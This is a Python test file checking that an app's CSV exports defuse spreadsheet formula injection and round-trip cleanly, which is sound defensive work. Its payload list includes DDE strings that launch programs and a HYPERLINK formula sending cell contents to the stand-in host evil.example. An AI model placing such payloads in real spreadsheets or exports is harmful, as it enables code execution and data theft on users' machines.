"""Text that a spreadsheet would run as a formula (CSV injection) is written so that it opens
as text, in every CSV Limes writes, and still imports back into exactly the same records."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.csv_cells import FORMULA_START, guarded, unguarded
from app.exporting import export_csv
from app.importing import import_file
from app.reports import build_handover, write_csv
from app.roster_csv import export_officers, import_officers
from app.store import Change, Store
from app.store import queries as q
from tests.factories import incident_fields

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=already quoted",
]


def _cells_a_spreadsheet_would_run(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text)))
    return [cell for row in rows[1:] for cell in row if cell[:1] in FORMULA_START]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_incident_export_neutralises_formulas_and_imports_back(tmp_path, payload):
    with Store(tmp_path / "a.sqlite3", "GR-ORE", synchronous="OFF") as store:
        fields = incident_fields("GR-ORE", title=payload, description=payload, reported_by=payload)
        store.commit([Change("incident", "INJ-1", fields)], "t").result()
        out = io.StringIO()
        export_csv(store, out)
        assert _cells_a_spreadsheet_would_run(out.getvalue()) == []
        assert f"'{payload}" in out.getvalue().replace('""', '"') or payload.startswith("'")
        path = tmp_path / "export.csv"
        path.write_text(out.getvalue(), encoding="utf-8")
    with Store(tmp_path / "b.sqlite3", "GR-ORE", synchronous="OFF") as other:
        import_file(other, path, now=datetime.now(UTC))
        with other.read() as connection:
            incident = q.incident(connection, "INJ-1", with_notes=False)
    assert (incident.title, incident.description) == (payload.strip(), payload.strip())


def test_roster_export_neutralises_formulas_and_imports_back(store, tmp_path):
    path = tmp_path / "in.csv"
    path.write_text(
        "id,name,agency,country,rank\n"
        '=cmd|\' /C calc\'!A0,"=HYPERLINK(""http://x"")",@agency,GRC,-1\n',
        encoding="utf-8",
    )
    import_officers(store, path, user="cdr")
    out = io.StringIO()
    with store.read() as connection:
        export_officers(connection, out)
    assert _cells_a_spreadsheet_would_run(out.getvalue()) == []
    again = tmp_path / "again.csv"
    again.write_text(out.getvalue(), encoding="utf-8")
    assert import_officers(store, again, user="cdr").unchanged == 1


def test_handover_csv_neutralises_formulas(store):
    fields = incident_fields("GR-ORE", title="=cmd|' /C calc'!A0")
    store.commit([Change("incident", "INJ-2", fields)], "t").result()
    with store.read() as connection:
        now_ms = int(datetime.now(UTC).timestamp() * 1000)
        report = build_handover(connection, "GR-ORE", 0, now_ms + 60_000, now_ms)
    out = io.StringIO()
    assert write_csv(report, out) == 1
    assert _cells_a_spreadsheet_would_run(out.getvalue()) == []


@given(st.text())
def test_guarding_round_trips_every_text(text):
    assert unguarded(guarded(text)) == text
    assert guarded(text)[:1] not in FORMULA_START
